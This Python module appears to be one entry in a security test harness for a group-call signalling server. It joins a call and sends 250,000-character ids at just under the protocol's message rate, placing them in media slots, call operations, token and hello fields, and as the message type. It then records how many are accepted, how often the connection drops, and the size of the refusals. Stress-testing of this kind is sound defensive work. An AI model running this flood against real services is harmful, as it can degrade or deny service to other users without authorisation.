"""Ids of a quarter of a megabyte, each another one, in every place where an id can stand."""

import json
import secrets
import time

from tools.target import Attack, Outcome, Target
from tools.wire import Session, WebSocket, offer

SECONDS = 20
LENGTH = 250_000
# Just below the number of messages that the protocol allows.
MESSAGES_A_SECOND = 19


def long_id() -> str:
    return secrets.token_hex(8) + "x" * LENGTH


class Member:
    """A user who is in the call, and comes back when the server has had enough."""

    def __init__(self, target: Target) -> None:
        self.target, self.account = target, target.user()
        self.sent_bytes = self.closed = 0
        self.longest_answer = 0
        self._enter()

    def _enter(self) -> None:
        self.session = Session(self.target, self.account)
        media = offer(secrets.token_hex(4), secrets.token_hex(12))
        reply = self.session.request("call.join", groupId=self.target.group, muted=True, media=media)
        self.call = reply["call"]["callId"]

    def tries(self, kind: str, **members: object) -> dict | None:
        """The answer to a request; None when the connection ends instead."""
        try:
            answer = self.session.request(kind, **members)
        except OSError:
            self.closed += 1
            self.sent_bytes += self.session.sent_bytes
            time.sleep(0.5)
            self._enter()
            return None
        self.longest_answer = max(self.longest_answer, len(json.dumps(answer)))
        return answer


def run(target: Target) -> Outcome:
    member = Member(target)
    taken = sent = 0
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        began = time.monotonic()
        slot = {"mid": long_id(), "participantId": None}
        answer = member.tries("media.receive", callId=member.call, slots=[slot])
        sent += 1
        taken += answer is not None and answer["type"] == "reply"
        time.sleep(max(0, began + 1 / MESSAGES_A_SECOND - time.monotonic()))
    for kind, members in {
        "call.hangUp": {"callId": long_id()},
        "call.remove": {"callId": member.call, "participantId": long_id()},
        "call.add": {"callId": member.call, "target": long_id()},
        "call.join": {"groupId": long_id()},
        "token": {"token": long_id()},
        long_id(): {},
    }.items():
        member.tries(kind, **members)
        time.sleep(1 / MESSAGES_A_SECOND)
    longest = max(member.longest_answer, *(greet(target, member, name) for name in
                                           ("token", "resume", "endpointId", "displayName")))  # fmt: skip
    return Outcome(
        member.sent_bytes + member.session.sent_bytes,
        [
            f"{taken} of {sent} wishes for a mid of {LENGTH:,} letters were taken; closed {member.closed} times",
            f"the longest refusal has {longest:,} bytes",
        ],
    )


def greet(target: Target, member: Member, name: str) -> int:
    """Says hello with a long value of one member; how long the answer is."""
    hello = {"type": "hello", "version": 1, "token": member.account.token, name: long_id()}
    try:
        web_socket = WebSocket(target.http_port)
        web_socket.send(json.dumps(hello).encode())
        return len(web_socket.receive()[1])
    except OSError:
        return 0


ATTACKS = {"long-wishes": Attack("Ids of 250,000 letters", "a user in a call", SECONDS + 4, run)}
